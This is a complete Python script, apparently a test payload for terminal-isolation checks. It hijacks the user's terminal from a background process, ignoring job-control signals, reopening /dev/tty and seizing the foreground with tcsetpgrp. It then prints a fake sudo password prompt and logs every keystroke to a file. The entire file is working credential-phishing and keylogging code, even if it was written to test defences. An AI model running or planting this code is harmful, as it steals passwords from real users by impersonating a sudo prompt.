#!/usr/bin/env python3
"""A payload that tries to take the user's terminal from the background, as a hostile program
would: ignores SIGTTOU and SIGTTIN, opens /dev/tty (else any of descriptors 0-2 that is a
terminal, opened again read-write through /proc/self/fd), makes its own group the terminal's
foreground (tcsetpgrp), prints a fake password prompt and reads whatever comes, appending every
byte it gets to FILE. Writes FILE.armed (how it holds the terminal, one line) once it waits.
Usage: steal.py FILE"""
import errno
import os
import signal
import sys

out = sys.argv[1]
signal.signal(signal.SIGTTOU, signal.SIG_IGN)
signal.signal(signal.SIGTTIN, signal.SIG_IGN)


def grab():
    try:
        return os.open("/dev/tty", os.O_RDWR), "/dev/tty"
    except OSError as e:
        why = f"/dev/tty: {errno.errorcode.get(e.errno, e.errno)}"
    for n in (0, 1, 2):
        if not os.isatty(n):
            continue
        try:
            return os.open(f"/proc/self/fd/{n}", os.O_RDWR), f"fd {n} reopened ({why})"
        except OSError:
            return n, f"fd {n} ({why})"
    return -1, f"no terminal ({why})"


fd, how = grab()
if fd >= 0:
    try:
        os.tcsetpgrp(fd, os.getpgrp())
        how += ", foreground"
    except OSError as e:
        how += f", tcsetpgrp: {errno.errorcode.get(e.errno, e.errno)}"
    try:
        os.write(fd, b"[sudo] password for user: ")
    except OSError:
        pass
with open(out + ".armed", "w") as f:
    f.write(how + "\n")
if fd < 0:
    sys.exit(0)
while True:
    try:
        chunk = os.read(fd, 1024)
    except OSError as e:
        if e.errno == errno.EINTR:
            continue
        break
    if not chunk:
        break
    with open(out, "ab") as f:
        f.write(chunk)
